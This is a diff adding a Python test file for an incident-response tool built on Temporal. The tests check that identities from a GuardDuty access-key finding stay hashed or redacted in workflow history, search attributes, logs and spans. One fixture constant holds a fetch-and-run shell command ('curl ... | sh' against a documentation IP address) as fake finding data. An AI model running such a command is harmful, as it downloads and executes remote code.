@@ -1,0 +1,260 @@
+"""What cannot be encrypted holds no identity: search attributes, workflow ids, the history as `temporal
+workflow show` prints it (with the codec on), log lines and span attributes carry resource ids and hashes,
+never a user name, an access key, an IP address, a user agent or a command line."""
+
+from __future__ import annotations
+
+import asyncio
+import base64
+import binascii
+import gzip
+import json
+import logging
+import subprocess
+import zlib
+
+import boto3
+import pytest
+from opentelemetry.sdk.trace import TracerProvider
+from opentelemetry.sdk.trace.export import SimpleSpanProcessor
+from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter
+from temporalio.api.common.v1 import WorkflowExecution
+from temporalio.api.query.v1 import WorkflowQuery
+from temporalio.api.sdk.v1 import WorkflowMetadata
+from temporalio.api.workflowservice.v1 import QueryWorkflowRequest
+from temporalio.client import Client
+from temporalio.contrib.pydantic import pydantic_data_converter
+
+import irflow.intake.submit as submit_module
+from irflow.cli.incidents import _list_query
+from irflow.codec import ENCODING, METADATA_ENCODING, with_payload_codec
+from irflow.devstack.demo import sample_access_key_finding, sample_finding
+from irflow.intake.listener import FindingListener
+from irflow.intake.router import route
+from irflow.models.finding import parse_guardduty
+from irflow.models.incident import Status
+from irflow.visibility import identity_hash, redacted, shown_for_incident, shown_resource_id
+from tests.irflow.intake.listener_support import _findings_queue, _listen_until, _send
+from tests.support import BIN, running_worker, wait_for
+from workflows import search_attributes as sa
+from workflows.incident import IncidentWorkflow
+
+PRINCIPAL_ID = "AIDAEXAMPLEPRINCIPAL1"
+REMOTE_IP = "198.51.100.23"
+USER_AGENT = "Boto3/1.34.0 md/Botocore#1.34.0 ua/2.0 os/linux#6.1 attacker-kit/7.3"
+COMMAND_LINE = "/bin/sh -c curl -s http://203.0.113.77/x.sh | sh"
+
+
+# --- the hash and the shown id ---
+
+
+def test_an_identity_is_shown_as_the_hash_the_router_builds_into_its_incident_key():
+    event = sample_access_key_finding("alice.smith", "AKIAEXAMPLEALICE0001")
+    destination = route(parse_guardduty(event).finding)
+    assert destination.resource_id == "alice.smith" and destination.personal
+    assert destination.shown_id == identity_hash("alice.smith") and destination.incident_key.endswith(
+        "-" + identity_hash("alice.smith")
+    )
+    incident_id = destination.incident_key + "-20260101T000000Z"
+    assert shown_for_incident(incident_id, "alice.smith") == identity_hash("alice.smith"), "the workflow agrees"
+    instance = route(parse_guardduty(sample_finding("i-0123456789abcdef0")).finding)
+    assert not instance.personal and instance.shown_id == "i-0123456789abcdef0"
+    assert shown_for_incident(instance.incident_key + "-20260101T000000Z", "i-0123456789abcdef0") == (
+        "i-0123456789abcdef0"
+    )
+    assert shown_resource_id("", personal=True) == ""
+
+
+def test_redaction_hashes_every_identity_a_finding_names_and_drops_its_address():
+    finding = parse_guardduty(sample_access_key_finding("bob", "AKIAEXAMPLEBOB000001")).finding
+    text = redacted(f"Contain bob? key AKIAEXAMPLEBOB000001 of {PRINCIPAL_ID} used from {REMOTE_IP}", finding)
+    assert text == (
+        f"Contain {identity_hash('bob')}? key {identity_hash('AKIAEXAMPLEBOB000001')} of "
+        f"{identity_hash(PRINCIPAL_ID)} used from [remote ip]"
+    )
+    assert redacted("nothing to hide", finding) == "nothing to hide"
+
+
+def test_a_user_name_lists_its_incidents_through_its_hash():
+    query = _list_query(resource="alice.smith")
+    assert f"IrflowResourceId IN ('alice.smith', '{identity_hash('alice.smith')}')" in query
+
+
+# --- everything, decoded ---
+
+
+def decoded_text(value) -> str:
+    """Every string in `value` (JSON as `temporal` prints it), with every layer opened: base64 that decodes
+    to text or gzip, gzip, and JSON inside strings, recursively. Binary that is none of those (ciphertext)
+    is left as it was printed."""
+    found: list[str] = []
+
+    def text(raw: str, depth: int) -> None:
+        found.append(raw)
+        if depth > 8:
+            return
+        stripped = raw.strip()
+        if stripped[:1] in ("{", "[", '"'):
+            try:
+                walk(json.loads(stripped), depth + 1)
+                return
+            except ValueError:
+                pass
+        if len(stripped) >= 4:
+            try:
+                data = base64.b64decode(stripped + "=" * (-len(stripped) % 4), validate=True)
+            except (binascii.Error, ValueError):
+                return
+            opened(data, depth + 1)
+
+    def opened(data: bytes, depth: int) -> None:
+        if data[:2] == b"\x1f\x8b":
+            try:
+                data = gzip.decompress(data)
+            except (OSError, EOFError, zlib.error):
+                return
+        try:
+            text(data.decode("utf-8"), depth)
+        except UnicodeDecodeError:
+            return
+
+    def walk(item, depth: int) -> None:
+        if isinstance(item, dict):
+            for key, inner in item.items():
+                text(str(key), depth)
+                walk(inner, depth)
+        elif isinstance(item, list):
+            for inner in item:
+                walk(inner, depth)
+        elif isinstance(item, str):
+            text(item, depth)
+        elif item is not None:
+            found.append(str(item))
+
+    walk(value, 0)
+    return "\n".join(found)
+
+
+def test_the_decoder_opens_every_layer():
+    inner = base64.b64encode(gzip.compress(json.dumps({"user": "carol"}).encode())).decode()
+    outer = base64.b64encode(json.dumps({"data": inner, "n": 1}).encode()).decode()
+    assert "carol" in decoded_text({"payloads": [{"data": outer}]})
+    assert "carol" not in decoded_text({"data": base64.b64encode(b"\x00\x93carol-ciphertext\xff").decode()[:-8]})
+
+
+# --- the acceptance test ---
+
+
+@pytest.fixture
+def key_id(aws) -> str:
+    return boto3.client("kms", region_name="us-east-1").create_key(Description="irflow payloads")["KeyMetadata"][
+        "KeyId"
+    ]
+
+
+def _finding_about(workload) -> dict:
+    event = sample_access_key_finding(workload.iam_user, workload.access_key_id, workload.account_id, workload.region)
+    detail = event["detail"]
+    detail["service"]["additionalInfo"] = {"userAgent": {"fullUserAgent": USER_AGENT, "userAgentCategory": "SDK"}}
+    detail["service"]["runtimeDetails"] = {"process": {"name": "sh", "commandLine": COMMAND_LINE}}
+    return event
+
+
+def _temporal(address: str, *args: str) -> dict | list:
+    done = subprocess.run(
+        [str(BIN / "temporal"), *args, "--address", address, "--namespace", "default", "--output", "json"],
+        capture_output=True,
+        text=True,
+        timeout=60,
+        check=True,
+    )
+    return json.loads(done.stdout)
+
+
+async def _listed(client: Client, query: str, timeout: float = 30) -> list:
+    deadline = asyncio.get_running_loop().time() + timeout
+    while asyncio.get_running_loop().time() < deadline:
+        found = [w async for w in client.list_workflows(query)]
+        if found:
+            return found
+        await asyncio.sleep(0.2)
+    raise AssertionError(f"nothing listed for {query}")
+
+
+async def test_an_iam_user_incident_leaves_no_identity_where_nothing_is_encrypted(
+    dev_env, workload, key_id, caplog, monkeypatch
+):
+    caplog.set_level(logging.INFO)
+    spans = InMemorySpanExporter()
+    provider = TracerProvider()
+    provider.add_span_processor(SimpleSpanProcessor(spans))
+    monkeypatch.setattr(submit_module, "tracer", provider.get_tracer("irflow"))
+    secrets = {
+        "user name": workload.iam_user,
+        "access key id": workload.access_key_id,
+        "principal id": PRINCIPAL_ID,
+        "remote IP": REMOTE_IP,
+        "user agent": USER_AGENT,
+        "command line": COMMAND_LINE,
+    }
+    sqs = boto3.client("sqs", region_name="us-east-1")
+    queue = _findings_queue(sqs, sqs.create_queue(QueueName="visibility-dlq")["QueueUrl"], name="visibility")
+    plain = dev_env.client
+    sealing = await Client.connect(
+        plain.service_client.config.target_host,
+        namespace=plain.namespace,
+        data_converter=with_payload_codec(pydantic_data_converter, key_id),
+    )
+    async with running_worker(sealing) as settings:
+        _send(sqs, queue, [_finding_about(workload)])
+        listener = FindingListener(sealing, settings, queue_urls=[queue], wait_seconds=1)
+        await _listen_until(listener, lambda: listener.stats.started >= 1)
+        # `irflow list --resource <user name>` finds the incident, though only the hash is stored.
+        query = f"{_list_query(resource=workload.iam_user)} AND TaskQueue = '{settings.task_queue}'"
+        [execution] = await _listed(sealing, query)
+        handle = sealing.get_workflow_handle_for(IncidentWorkflow.run, execution.id)
+        state = await wait_for(handle, lambda s: s.status == Status.AWAITING_DECISION)
+        assert state.resource_id == workload.iam_user, "the sealing client reads the name"
+        # User metadata and the UI's current details pass through the codec: sealed for anyone without it.
+        description = await plain.get_workflow_handle(handle.id).describe()
+        metadata = description.raw_description.execution_config.user_metadata
+        assert metadata.summary.metadata[METADATA_ENCODING] == ENCODING
+        assert metadata.details.metadata[METADATA_ENCODING] == ENCODING
+        assert identity_hash(workload.iam_user) in (await (await handle.describe()).static_summary() or "")
+        answer = await plain.workflow_service.query_workflow(
+            QueryWorkflowRequest(
+                namespace=plain.namespace,
+                execution=WorkflowExecution(workflow_id=handle.id),
+                query=WorkflowQuery(query_type="__temporal_workflow_metadata"),
+            )
+        )
+        [current] = answer.query_result.payloads
+        assert current.metadata[METADATA_ENCODING] == ENCODING
+        details = (await handle.query("__temporal_workflow_metadata", result_type=WorkflowMetadata)).current_details
+        assert identity_hash(workload.iam_user) in details, details
+        await handle.signal("approve", {"by": "alice", "comment": "key used from a known-bad address"})
+        final = await handle.result()
+    assert final.status == Status.RESOLVED
+
+    address = plain.service_client.config.target_host
+    history = decoded_text(await asyncio.to_thread(_temporal, address, "workflow", "show", "-w", handle.id))
+    described = decoded_text(await asyncio.to_thread(_temporal, address, "workflow", "describe", "-w", handle.id))
+    attributes = (await plain.get_workflow_handle(handle.id).describe()).typed_search_attributes
+    assert attributes.get(sa.RESOURCE_ID) == identity_hash(workload.iam_user)
+    assert identity_hash(workload.iam_user) in described, "the decoder reads the search attributes"
+    assert "IncidentWorkflow" in history and workload.account_id in history, "the decoder reads the history"
+    [submitted] = [s for s in spans.get_finished_spans() if s.name == "irflow.submit_finding"]
+    span_text = json.dumps(dict(submitted.attributes or {}))
+    logs = "\n".join(record.getMessage() for record in caplog.records)
+    assert "started" in logs, "the listener's log lines are captured"
+    places = {
+        "history": history,
+        "description": described,
+        "search attributes": repr(list(attributes)),
+        "workflow id": handle.id,
+        "current details": details,
+        "span attributes": span_text,
+        "log lines": logs,
+    }
+    leaks = [(place, what) for place, shown in places.items() for what, secret in secrets.items() if secret in shown]
+    assert not leaks, leaks
